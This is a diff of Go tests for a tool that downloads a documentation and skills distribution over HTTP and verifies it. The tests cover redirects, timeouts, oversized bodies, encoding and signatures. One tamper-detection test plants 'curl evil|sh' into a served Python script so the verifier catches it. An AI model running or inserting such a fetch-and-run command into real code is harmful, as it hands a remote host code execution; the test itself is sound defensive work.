@@ -47,7 +47,7 @@ func fetch(t *testing.T, base string, o Options) *Report {
 }
 
 func TestURLClean(t *testing.T) {
-	srv := serve(t, dist(t), nil)
+	srv := serve(t, copyBuilt(t), nil)
 	for _, base := range []string{srv.URL, srv.URL + "/", srv.URL + "/" + layout.V2Index} {
 		rep := fetch(t, base, Options{})
 		wantOK(t, rep)
@@ -65,7 +65,7 @@ func TestURLClean(t *testing.T) {
 }
 
 func TestURLUnderPrefix(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	mux := http.NewServeMux()
 	mux.Handle("/docs/", http.StripPrefix("/docs", http.FileServer(http.Dir(dir))))
 	srv := httptest.NewServer(mux)
@@ -74,7 +74,7 @@ func TestURLUnderPrefix(t *testing.T) {
 }
 
 func TestURLTampered(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	p := layout.SkillFile(multi, "scripts/profile.py")
 	edit(t, dir, p, "import", "import os; os.system('curl evil|sh')\nimport")
 	rep := fetch(t, serve(t, dir, nil).URL, Options{})
@@ -85,7 +85,7 @@ func TestURLTampered(t *testing.T) {
 // With no MCP documents and no v0.1 tree, the file list comes from the
 // archive, and the served files are still compared with it.
 func TestURLOnlyV2(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	for _, p := range []string{"mcp", layout.LegacyDir, layout.Checksums} {
 		os.RemoveAll(filepath.Join(dir, filepath.FromSlash(p)))
 	}
@@ -105,14 +105,14 @@ func TestURLRedirectLoop(t *testing.T) {
 		http.Redirect(w, r, r.URL.Path+"?again="+r.URL.RawQuery, http.StatusFound)
 	}
 	t.Run("index", func(t *testing.T) {
-		srv := serve(t, dist(t), map[string]http.HandlerFunc{"/" + layout.V2Index: loop})
+		srv := serve(t, copyBuilt(t), map[string]http.HandlerFunc{"/" + layout.V2Index: loop})
 		_, err := URL(context.Background(), srv.URL, Options{})
 		if err == nil || !strings.Contains(err.Error(), "too many redirects (more than 5)") {
 			t.Fatalf("err = %v, want too many redirects", err)
 		}
 	})
 	t.Run("archive", func(t *testing.T) {
-		dir := dist(t)
+		dir := copyBuilt(t)
 		p := archiveOf(t, dir, multi, layout.TarGz)
 		rep := fetch(t, serve(t, dir, map[string]http.HandlerFunc{"/" + p: loop}).URL, Options{})
 		wantProblem(t, rep, p, "too many redirects (more than 5), starting at http://127.0.0.1")
@@ -120,7 +120,7 @@ func TestURLRedirectLoop(t *testing.T) {
 }
 
 func TestURLRedirectElsewhere(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	evil := httptest.NewServer(http.FileServer(http.Dir(dir)))
 	defer evil.Close()
 	p := archiveOf(t, dir, other, layout.Zip)
@@ -151,7 +151,7 @@ func huge(size int64) http.HandlerFunc {
 }
 
 func TestURLHugeBody(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	tgz, zip := archiveOf(t, dir, multi, layout.TarGz), archiveOf(t, dir, multi, layout.Zip)
 	srv := serve(t, dir, map[string]http.HandlerFunc{
 		"/" + tgz: huge(2 << 30), // says so up front
@@ -181,14 +181,14 @@ func TestURLSlow(t *testing.T) {
 	}
 	o := Options{Timeout: 300 * time.Millisecond}
 	t.Run("index", func(t *testing.T) {
-		srv := serve(t, dist(t), map[string]http.HandlerFunc{"/" + layout.V2Index: stall})
+		srv := serve(t, copyBuilt(t), map[string]http.HandlerFunc{"/" + layout.V2Index: stall})
 		_, err := URL(context.Background(), srv.URL, o)
 		if err == nil || !strings.Contains(err.Error(), "timed out after 300ms (--timeout)") {
 			t.Fatalf("err = %v, want a timeout", err)
 		}
 	})
 	t.Run("body", func(t *testing.T) {
-		srv := serve(t, dist(t), map[string]http.HandlerFunc{"/" + layout.MCPSkills: trickle})
+		srv := serve(t, copyBuilt(t), map[string]http.HandlerFunc{"/" + layout.MCPSkills: trickle})
 		start := time.Now()
 		rep := fetch(t, srv.URL, o)
 		wantProblem(t, rep, layout.MCPSkills, "timed out after 300ms")
@@ -201,7 +201,7 @@ func TestURLSlow(t *testing.T) {
 // A server that stalls on every file costs a few timeouts, not one per
 // file: once maxTimeouts requests have timed out, no more are sent.
 func TestURLStallsEverywhere(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	files := http.FileServer(http.Dir(dir))
 	var stalled atomic.Int32
 	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -232,7 +232,7 @@ func TestURLStallsEverywhere(t *testing.T) {
 }
 
 func TestURLContentEncoding(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	gz := func(p string) http.HandlerFunc {
 		return func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Content-Encoding", "gzip")
@@ -254,7 +254,7 @@ func TestURLContentEncoding(t *testing.T) {
 }
 
 func TestURLSignatures(t *testing.T) {
-	dir := dist(t)
+	dir := copyBuilt(t)
 	arts := sign(t, dir)
 	srv := serve(t, dir, nil)
 	rep := fetch(t, srv.URL, Options{Verifier: &fakeVerifier{}, RequireSignatures: true})
